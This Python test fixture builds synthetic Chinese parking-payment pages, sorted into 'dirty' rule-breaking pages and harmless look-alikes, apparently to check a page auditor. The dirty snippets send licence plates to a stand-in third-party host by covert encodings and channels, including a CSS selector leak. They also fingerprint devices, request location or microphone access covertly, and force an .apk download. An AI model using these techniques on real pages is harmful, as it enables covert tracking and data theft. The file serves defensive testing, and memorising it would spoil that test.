"""Families of pages by technical disguise, written after the rules and counted before any rule was changed.

Each family offends in one way and hides it by several means; the clean ones use the same means innocently.
"""

from collections.abc import Iterator
from urllib.parse import quote

import zxingcpp

from tests.selfcheck.zoo.animals import ALIPAY, FEE, FORM, WECHAT, Animal
from tests.selfcheck.zoo.unseen_places import says, weui
from tests.selfcheck.zoo.unseen_styles import (
    INFO,
    MASK,
    MODAL,
    RESULT,
    SHEET,
    THIRD,
    TITLE,
    VIEW,
    App,
    app,
    drawn,
    form,
    keypad,
    uni,
    vue,
)

FIRST = "if(document.querySelector('#plate')){%s}"
TYPED = "document.addEventListener('input',e=>{const v=(e.target.value||'').trim();if(v.length>6){%s}});"
FOOT_WITH_RECORD = INFO + "<p><a href='https://beian.miit.gov.cn/'>沪ICP备2026000001号-1</a></p>"
ON_GO = "document.addEventListener('click',e=>{if(e.target.id==='go'){const v=document.querySelector('#carNo').value;%s}},true);"


def code(text: str, side: int = 200) -> str:
    """Return a QR as a picture."""
    svg = str(zxingcpp.write_barcode_to_svg(zxingcpp.create_barcode(text, zxingcpp.BarcodeFormat.QRCode)))
    return f"<img alt='' width={side} height={side} src='data:image/svg+xml,{quote(svg)}'>"


def picture(words: str) -> str:
    """Return the address of a picture of words."""
    return drawn(words).partition("src='")[2].rpartition("'")[0]


def answering(zh: str, answer: str, *breaks: str) -> App:
    """Return a page whose interface answers with more than it shows."""
    ask = "ask=async p=>(await fetch('/api/bill',{method:'POST',body:p})).json();"
    return vue(zh, *breaks, script=ask, more=(("/api/bill", answer),))


def dirty() -> Iterator[tuple[str, list[Animal]]]:
    yield (
        "phone fields out of sight",
        [
            vue("四秒后进影子树", "P3", script="setTimeout(()=>{const h=document.createElement('div');document.body.append(h);h.attachShadow({mode:'closed'}).innerHTML='<p>联系方式</p><input inputmode=tel maxlength=11>'},3600);"),
            form("只有图标的框", "P3", form=FORM.replace("</form>", "<p><span aria-hidden=true>📱</span> <input inputmode=numeric maxlength=11 placeholder='11 位号码'></p></form>")),
            form("对象地址内嵌页", "P3", script=FIRST % "const f=document.createElement('iframe');f.width=320;f.height=90;f.src=URL.createObjectURL(new Blob(['<meta charset=utf-8><label>接收电子凭证的手机 <input name=m></label>'],{type:'text/html'}));document.body.append(f)"),
            vue("点车牌框后弹出", "P3", script="document.addEventListener('focusin',e=>{if(e.target.id==='carNo'&&!document.querySelector('dialog')){const d=document.createElement('dialog');d.innerHTML='<p>手机尾号后四位</p><input maxlength=4><button>好</button>';document.body.append(d);d.show()}});"),
            form("区号加号码", "P3", form=FORM.replace("</form>", "<p><select name=cc><option>+86</select> <input name=n type=number></p></form>")),
            app("自绘数字键盘要手机号", f"{TITLE}<p>请输入手机号码查询您的车辆</p><div id=d style='border:1px solid #ccc;height:40px'></div><div style='{SHEET};height:260px'>{keypad('1234567890')}<button>登录</button></div>{INFO}", "P1", script="document.querySelectorAll('.key').forEach(k=>k.onclick=()=>{document.querySelector('#d').textContent+=k.textContent})"),
        ],
    )  # fmt: skip
    yield (
        "follow an account",
        [
            form("伪元素取属性", "P5a", head="<style>.t::after{content:attr(data-t)}</style>", before="<p class=t data-t='请先关注公众号，再输入车牌'></p>"),
            form("背景图海报", "P5a", before=f"<div style=\"width:320px;height:160px;background:url('{picture('请先关注公众号|再缴停车费')}')\"></div>"),
            form("矢量图里的字", "P5a", before="<svg width=320 height=60 role=img><text x=10 y=40 font-size=26>长按关注公众号领券</text></svg>"),
            form("逐字画在画布上", "P5a", before="<canvas id=cv width=320 height=60></canvas>", script="const q=document.querySelector('#cv');if(q){const c=q.getContext('2d');c.font='24px sans-serif';[...'请先关注公众号再缴费'].forEach((t,i)=>c.fillText(t,6+i*28,40))}"),
            form("竖排换行", "P5a", before="<p style='width:1.2em'>关<br>注<br>公<br>众<br>号<br>领<br>停<br>车<br>券</p>"),
            form("提示写在框里", "P5a", form=FORM.replace("autocomplete=off", "autocomplete=off placeholder='先关注公众号，再输入车牌'")),
            form("二维码画在矢量图", "P5a", before="<p>扫一扫</p>" + code("https://weixin.qq.com/r/abcDEF123")),
            form("名片链接", "P5a", before="<a href='weixin://contacts/profile/gh_0123456789ab'>查看车场详情</a>"),
            form("桥接加关注", "P5a", script="document.addEventListener('WeixinJSBridgeReady',()=>WeixinJSBridge.invoke('addContact',{webtype:'1',username:'gh_01'},()=>{}))", phones=WECHAT),
        ],
    )  # fmt: skip
    yield (
        "leaving the page",
        [
            form("隐藏框拉起应用", "P1", script=FIRST % "const f=document.createElement('iframe');f.style.display='none';f.src='mallapp://park/home';document.body.append(f)"),
            form("刷新标签拉起支付宝", "P1", head="<meta http-equiv=refresh content='1;url=alipays://platformapi/startapp?appId=2021001'>"),
            form("首触意图链接", "P1", script=FIRST % "addEventListener('touchend',()=>{location.href='intent://park#Intent;scheme=mallapp;end'},{once:true})"),
            form("小程序接口跳转", "P1", script="wx.miniProgram.redirectTo({url:'/pages/park/index'})", phones=WECHAT),
            form("支付宝打开小程序", "P1", script="AlipayJSBridge.call('startApp',{appId:'2021002'},()=>{})", phones=ALIPAY),
            form("查费表单交给他站", "P8b", form=FORM.replace("action='{path}'", f"action='{THIRD}/query'")),
            form("支付前自家广告页", "P5d", pay="<h2>新店开业 全场五折</h2><p>3 秒后自动跳转</p><button>去看看</button><script>setTimeout(()=>{location.href='https://wx.tenpay.com/cgi-bin/mmpayweb-bin/checkmweb'},4000)</script>"),
            form("付款码图片代替收银台", "P5d", pay="<h2>请长按识别付款</h2>" + code("wxp://f2f0AbCdEf")),
        ],
    )  # fmt: skip
    yield (
        "third parties by other channels",
        [
            vue("事件流", "P6", script=f"new EventSource('{THIRD}/events');"),
            vue("新传输协议", "P6", script="try{new WebTransport('https://quic.adnet-zoo.cn:4433/t')}catch(e){}"),
            vue("打洞服务器", "P9b", script="const p=new RTCPeerConnection({iceServers:[{urls:'stun:stun.adnet-zoo.cn:3478'}]});p.createDataChannel('a');p.createOffer().then(o=>p.setLocalDescription(o));"),
            vue("线程里请求", "P6", script=f"new Worker(URL.createObjectURL(new Blob([\"fetch('{THIRD}/w',{{mode:'no-cors'}})\"])));"),
            form("样式表导入", "P6", head=f"<style>@import url('{THIRD}/a.css');</style>"),
            form("预取", "P6", head=f"<link rel=prefetch href='{THIRD}/next.js'>"),
            form("嵌入对象", "P6", before=f"<object data='{THIRD}/o.svg' width=10 height=10></object>"),
            form("按属性选择器泄露", "P8b", head="<style>" + "".join(f"input[value$='{c}']{{background:url('{THIRD}/k?{c}')}}" for c in "Q7K319") + "</style>", script="const p=document.querySelector('#plate');p&&p.addEventListener('input',()=>p.setAttribute('value',p.value))"),
            vue("离开时回传", "P8b", script="let kept='';" + TYPED % "kept=v" + f"addEventListener('pagehide',()=>navigator.sendBeacon('{THIRD}/bye',kept));"),
            weui("链接的回响", "P6", script="const a=document.getElementById('q');a.href='#q';a.setAttribute('ping','" + THIRD + "/ping');"),
        ],
    )  # fmt: skip
    yield (
        "plates in disguise",
        [
            vue("跨域脚本带车牌", "P8b", script=ON_GO % f"const s=document.createElement('script');s.src='{THIRD}/fee?callback=cb&p='+encodeURIComponent(v);document.head.append(s)"),
            vue("语言头里", "P8b", script=ON_GO % f"fetch('{THIRD}/h',{{mode:'no-cors',headers:{{'Accept-Language':v.slice(1)}}}}).catch(()=>{{}})"),
            vue("十六位编码", "P8b", script=ON_GO % f"new Image().src='{THIRD}/i?d='+[...v].map(c=>c.charCodeAt(0).toString(16).padStart(4,'0')).join('')"),
            vue("路径逐字", "P8b", script=ON_GO % f"new Image().src='{THIRD}/'+[...v].map(encodeURIComponent).join('/')+'.gif'"),
            vue("二进制长连接", "P8b", script=f"const w=new WebSocket('{THIRD.replace('https', 'wss')}/b');" + ON_GO % "const f=()=>w.send(new TextEncoder().encode(v));w.readyState===1?f():w.addEventListener('open',f)"),
            vue("压缩后发出", "P8b", script=ON_GO % f"new Response(new Blob([JSON.stringify({{p:v}})]).stream().pipeThrough(new CompressionStream('gzip'))).blob().then(b=>navigator.sendBeacon('{THIRD}/z',b))"),
            vue("哈希后经长连接", "P8b", script=f"const w=new WebSocket('{THIRD.replace('https', 'wss')}/h');" + ON_GO % "crypto.subtle.digest('SHA-1',new TextEncoder().encode(v)).then(d=>w.send([...new Uint8Array(d)].map(b=>b.toString(16).padStart(2,'0')).join('')))"),
            vue("改写片段", "P8a", script=ON_GO % "history.replaceState(0,'','#p='+btoa(unescape(encodeURIComponent(v))))"),
            vue("车牌作路径", "P8a", script=ON_GO % "fetch('/fee/'+encodeURIComponent(v))"),
            vue("引用页带出", "P8b", script=ON_GO % f"history.replaceState(0,'','?n='+encodeURIComponent(v));fetch('{THIRD}/r',{{mode:'no-cors',referrerPolicy:'unsafe-url'}}).catch(()=>{{}})"),
            vue("车牌当 Cookie", "P8c", script=TYPED % "document.cookie='last='+encodeURIComponent(v)"),
        ],
    )  # fmt: skip
    yield (
        "kept in the browser",
        [
            vue("直接赋属性", "P7a", script="localStorage.uid=localStorage.uid||crypto.randomUUID();"),
            vue("数据库", "P7a", script="const o=indexedDB.open('visit',1);o.onupgradeneeded=()=>o.result.createObjectStore('v').put(Math.random(),'id');"),
            vue("缓存接口", "P7a", script="self.caches&&caches.open('id').then(c=>c.put('/id',new Response('u-'+Math.random())));"),
            vue("新式 Cookie", "P7a", script="self.cookieStore&&cookieStore.set({name:'did',value:'d1',expires:Date.now()+3e10});"),
            weui("经自家路径的统计", "P7a", script="document.cookie='_pk_id=ab.12;max-age=33955200';fetch('/matomo.php?idsite=1&rec=1');"),
        ],
    )  # fmt: skip
    yield (
        "in the way",
        [
            form("哈希拦返回", "P5c", script=FIRST % "setTimeout(()=>{location.hash='a';location.hash='b';addEventListener('hashchange',()=>{location.hash='b'})},900)"),
            form("离开时弹框", "P5c", script=FIRST % "addEventListener('beforeunload',e=>{e.preventDefault();e.returnValue='x'})"),
            vue("滚动后浮层", "P5c", script=f"addEventListener('scroll',()=>document.body.insertAdjacentHTML('beforeend','<div style=\"{MASK}\"><p style=\"color:#fff\">今日福利已到账</p></div>'),{{once:true}});document.body.style.minHeight='1600px';"),
            vue("第一次按键后", "P5c", script=f"document.addEventListener('input',()=>document.body.insertAdjacentHTML('beforeend','<div style=\"{MODAL};height:330px\"><p>本月停车账单已生成</p><button>查看</button></div>'),{{once:true}});"),
            form("弹出层属性", "P5c", before=f"<div id=pp popover style='width:88%;height:60%'><p>周年庆典</p>{drawn('周年庆|低至 3 折', 240, 160)}</div>", script="const p=document.querySelector('#pp');p&&setTimeout(()=>p.showPopover(),900)"),
            form("首触开新窗", "P5c", script=FIRST % f"addEventListener('click',()=>window.open('{THIRD}/w'),{{once:true}})"),
            form("透明链接截住首触", "P5c", before="<a href='/coupon' style='position:fixed;inset:0;z-index:30;opacity:0.01'> </a>"),
            vue("查费前先倒数", "P5c", script=ON_GO % f"document.body.insertAdjacentHTML('beforeend','<div id=wt style=\"{MASK};background:#fff\"><p>精彩内容 5s</p></div>');setTimeout(()=>document.querySelector('#wt').remove(),2500)"),
            form("自动下载", "P1", script=FIRST % "const a=document.createElement('a');a.href='data:application/octet-stream,x';a.download='park.apk';document.body.append(a);a.click()"),
        ],
    )  # fmt: skip
    yield (
        "asking the phone",
        [
            form("框架里定位", "P9a", before="<iframe srcdoc=\"<script>navigator.geolocation.getCurrentPosition(()=>{},()=>{})</script>\" width=1 height=1></iframe>"),
            form("已装应用", "P9a", script="navigator.getInstalledRelatedApps&&navigator.getInstalledRelatedApps()"),
            form("本机字体清单", "P9b", script="self.queryLocalFonts&&queryLocalFonts().catch(()=>{})"),
            form("微信取位置旧接口", "P9a", script="WeixinJSBridge.invoke('geoLocation',{type:'wgs84'},()=>{})", phones=WECHAT),
            form("支付宝取通讯录", "P4a", script="AlipayJSBridge.call('contact',{},()=>{})", phones=ALIPAY),
            form("触摸即录音", "P9a", script=FIRST % "addEventListener('touchend',()=>navigator.mediaDevices.getUserMedia({audio:true}).catch(()=>{}),{once:true})"),
            form("空闲检测", "P9a", script=FIRST % "addEventListener('click',()=>self.IdleDetector&&IdleDetector.requestPermission(),{once:true})"),
        ],
    )  # fmt: skip
    yield (
        "fingerprints",
        [
            form("显卡精度与扩展", "P9b", script="const g=document.createElement('canvas').getContext('webgl');if(g){g.getSupportedExtensions();for(const t of[g.VERTEX_SHADER,g.FRAGMENT_SHADER])for(const p of[g.LOW_FLOAT,g.MEDIUM_FLOAT,g.HIGH_FLOAT])g.getShaderPrecisionFormat(t,p)}else document.title='x'"),
            form("高熵客户端提示", "P9b", script="navigator.userAgentData&&navigator.userAgentData.getHighEntropyValues(['model','platformVersion','architecture','bitness','fullVersionList'])"),
            form("矩形测字体", "P9b", script="const s=document.createElement('span');s.textContent='mmwwll😀';document.body.append(s);let n=0;for(let i=0;i<60;i++){s.style.font='40px F'+i+',serif';n+=s.getBoundingClientRect().width}window.n=n"),
            form("媒体查询三十条", "P9b", script="const r=[];for(const q of['color-gamut:p3','inverted-colors:inverted','forced-colors:active','prefers-contrast:more','prefers-reduced-motion:reduce','dynamic-range:high','monochrome:0','any-hover:hover','any-pointer:fine','color-index:0','prefers-color-scheme:dark','prefers-reduced-transparency:reduce','update:fast','scripting:enabled','display-mode:browser','orientation:portrait','color:8','pointer:coarse','hover:none','overflow-block:scroll'])r.push(matchMedia('('+q+')').matches);fetch('/mq',{method:'POST',body:r.join()})"),
            form("空框架里的画布", "P9b", script="const f=document.createElement('iframe');document.body.append(f);const c=f.contentDocument.createElement('canvas');c.width=200;c.height=50;c.getContext('2d').fillText('Cwm fjord',4,20);window.h=c.toDataURL().length"),
            form("击键节奏", "P9b", form=FORM.replace("</form>", "<input type=hidden name=kd></form>"), script=FIRST % "const t=[];for(const n of['keydown','keyup','input','touchstart'])document.querySelector('#plate').addEventListener(n,e=>{t.push([n,e.timeStamp]);document.forms[0].kd.value=JSON.stringify(t)})"),
            vue("触摸轨迹像素", "P9b", script="for(const n of['touchstart','touchmove','touchend','scroll'])document.addEventListener(n,e=>{new Image().src='/log.gif?n='+n+'&t='+Math.round(e.timeStamp)},{passive:true});"),
        ],
    )  # fmt: skip
    yield (
        "advertisements",
        [
            form("内嵌文档广告", "P12d", before=f"<iframe width=330 height=170 srcdoc=\"<a href='/mall'>{drawn('夏日清仓|低至 2 折').replace(chr(34), '')}</a>\"></iframe>"),
            vue("费用下的团购", "P12d", fee=RESULT + f"<div onclick=\"location.href='/d/1'\">{drawn('火锅双人餐|团购价 99 元', 320, 150)}</div>"),
            form("视频贴片", "P12d", before=f"<video autoplay muted loop width=320 height=180 poster='{picture('新车上市|预约试驾')}' src='/v.mp4'></video>"),
            form("底部横幅", "P12d", before="<div style='position:fixed;left:0;right:0;bottom:0;height:70px;background:#fc0;z-index:5'>🔥 火锅节 全场 5 折 <a href='/hot'>去看看</a> <button type=button>×</button></div>"),
            vue("猜你喜欢", "P12d", fee=RESULT + "<h3>猜你喜欢</h3><ul><li><a href='/g/1'>车载香薰 ¥19.9</a></li><li><a href='/g/2'>遮阳挡 ¥29.9</a></li></ul>"),
            form("贷款额度", "P12d", before="<p><a href='/loan'>您有 20 万元车主贷额度待领取</a></p>"),
            form("直播浮球", "P12d", before="<a href='/live' style='position:fixed;right:6px;bottom:120px;background:#f36;color:#fff;padding:16px;border-radius:50%'>直播中</a>"),
            form("跑马灯", "P12d", before="<marquee>一楼新开火锅店，凭停车小票享 8 折，欢迎品尝</marquee>"),
        ],
    )  # fmt: skip
    yield (
        "lotteries and more",
        [
            form("盲盒", "P5a", before="<button type=button>拆停车盲盒</button>"),
            form("砸金蛋", "P5a", before="<p><a href='/egg'>砸金蛋，试手气</a></p>"),
            vue("找人助力", "P5a", fee=RESULT + "<button>找 3 位好友助力，本单免付</button>"),
            form("拼团缴费", "P5a", fee=FEE + "<a href='/team'>2 人拼团，每人省 2 元</a>"),
            form("签到", "P5a", before="<p>每日签到攒停车豆，<a href='/sign'>去签到</a></p>"),
            form("问卷", "P5a", before="<p><a href='/q'>填问卷，赢取全年停车卡</a></p>"),
            vue("安心保已选", "P5b", fee=RESULT.replace("<button", "<div class='opt on' role=switch aria-checked=true>停车安心保 +1 元</div><button")),
            form("短信营销单选", "P5b", fee=FEE.replace("<button>", "<label><input type=radio name=ad value=1 checked>同意接收优惠短信</label><label><input type=radio name=ad value=0>不同意</label><button>")),
            form("看不见的勾选框", "P5b", fee=FEE.replace("<button>", "<input id=cb type=checkbox name=pack checked style='position:absolute;opacity:0'><label for=cb>✔ 加购洗车券 9.9 元</label><button>")),
            form("先答人脸", "P5a", fee="<h2>¥8.00</h2><p>请先完成刷脸认证后缴费</p><form method=post action='/pay'><button>支付 ¥8.00</button></form>"),
            form("行驶证", "P3", form=FORM.replace("</form>", "<p><label>上传行驶证 <input type=file name=lic></label></p></form>")),
        ],
    )  # fmt: skip
    yield (
        "answers that tell",
        [
            answering("接口多给", '{"code":0,"amount":800,"entryTime":"2026-11-27 08:12:33","owner":"王**","phone":"138****1234"}', "P11b"),
            answering("接口给照片", '{"code":0,"amount":800,"inImage":"https://img.park-zoo.cn/in/1.jpg","berth":"B2-118"}', "P11b"),
            vue("车的样子", "P11b", fee=RESULT.replace("停车时长 1 小时 20 分", "白色 特斯拉 Model 3，已停 1 小时 20 分")),
            vue("上次光临", "P11b", fee=RESULT + "<p>您上次光临是 11 月 3 日</p>"),
            vue("寻车", "P11b", fee=RESULT + "<p>爱车在 3 层东区立柱 C12 附近</p>"),
            form("欠费地点", "P11b", fee=FEE + "<p>另有 11 月 2 日人民广场停车场欠费 1 笔</p>"),
        ],
    )  # fmt: skip


def clean() -> Iterator[tuple[str, list[Animal]]]:
    yield (
        "scripts that do no harm",
        [
            vue("快速点击", script="for(const n of['touchstart','touchmove','touchend','click'])document.addEventListener(n,()=>{},{passive:true});"),
            vue("观察变化", script="new MutationObserver(()=>{}).observe(document.body,{subtree:true,childList:true});"),
            vue("按屏宽排版", script="document.documentElement.style.fontSize=Math.min(20,screen.availWidth/20)+'px';window.dpr=devicePixelRatio+navigator.language;"),
            vue("画布平面图", view=VIEW + "<canvas id=mp width=300 height=120></canvas>", script="setTimeout(()=>{const c=document.querySelector('#mp');if(c){const x=c.getContext('2d');x.strokeRect(5,5,280,100);x.font='16px sans-serif';x.fillText('东出口',20,60)}},800);"),
            vue("单页路由", script=ON_GO % "history.pushState({s:1},'','#/fee');void v" + "addEventListener('popstate',()=>{});"),
            vue("只读存储", script="localStorage.getItem('theme');sessionStorage.length;"),
            vue("出错才上报", script="addEventListener('error',e=>navigator.sendBeacon('/err',String(e.message)));"),
            vue("影子样式", script="const h=document.createElement('div');document.body.append(h);h.attachShadow({mode:'closed'}).innerHTML='<p>请按指引离场</p>';"),
            form("预连收银台", head="<link rel=preconnect href='https://wx.tenpay.com'>"),
            uni("震动与长亮", script="document.addEventListener('click',()=>{navigator.vibrate&&navigator.vibrate(10)});"),
        ],
    )  # fmt: skip
    yield (
        "words that sound like it",
        [
            form("名字里有会员", before="<p>测试会员大厦地下停车场，对外开放，收费一致</p>"),
            says("防下载", "请勿下载来历不明的 App，本场只用网页缴费。"),
            says("公告栏", "请关注现场公告栏，台风期间 B2 层关闭。"),
            says("注册", "运营公司注册资本 500 万元，统一社会信用代码见营业执照。"),
            says("减免已入账", "商户减免 3 元已自动抵扣，无需操作。"),
            says("找车", "找不到车请到一楼服务台，工作人员陪同寻找。"),
            says("欢迎语", "欢迎光临测试广场，祝您购物愉快。"),
            says("抽查", "本场接受价格主管部门抽查，投诉电话 12345。"),
            says("活动占道", "本周末广场举办灯会，P2 入口临时封闭。"),
            says("余额", "支付失败请更换支付方式或检查余额。"),
            says("充值", "月卡请到物业窗口办理，本页只缴临时停车费。"),
        ],
    )  # fmt: skip
    yield (
        "shapes that look like it",
        [
            form("禁烟海报", before=drawn("禁止吸烟|请勿鸣笛", 320, 160)),
            form("核对网址海报", before=drawn("扫码缴费|请核对收款单位", 320, 160)),
            form("未打开的对话框", before="<dialog><p>领券中心</p><button>关闭</button></dialog>"),
            vue("加载遮罩两秒半", script=f"document.body.insertAdjacentHTML('beforeend','<div id=ld style=\"{MASK}\">正在加载</div>');setTimeout(()=>document.querySelector('#ld').remove(),2500);"),
            form("工信部备案", foot=FOOT_WITH_RECORD),
            form("选车牌颜色", form=FORM.replace("</form>", "<fieldset><legend>车牌种类</legend><label><input type=radio name=k checked>蓝牌</label><label><input type=radio name=k>绿牌</label></fieldset></form>")),
            form("中英切换", before="<p><button type=button lang=en>English</button> <button type=button>大字版</button></p>"),
            vue("费用抽屉", fee=f"<div style='{SHEET}'><p>停车费 ¥8.00</p><p>时长 1 小时 20 分</p><button id=pay>立即支付 ¥8.00</button></div>"),
            form("监督电话", before="<p><a href='tel:13800000000'>监督电话 138 0000 0000</a></p>"),
            vue("轻提示", script=ON_GO % "if(v.length<7)document.body.insertAdjacentHTML('beforeend','<div style=\"position:fixed;top:45%;left:30%;background:#000;color:#fff\">请输入正确的车牌</div>')"),
            form("折叠的问答", before="<details><summary>常见问题</summary><p>为什么不用登录？因为缴费只需要车牌。</p></details>"),
        ],
    )  # fmt: skip
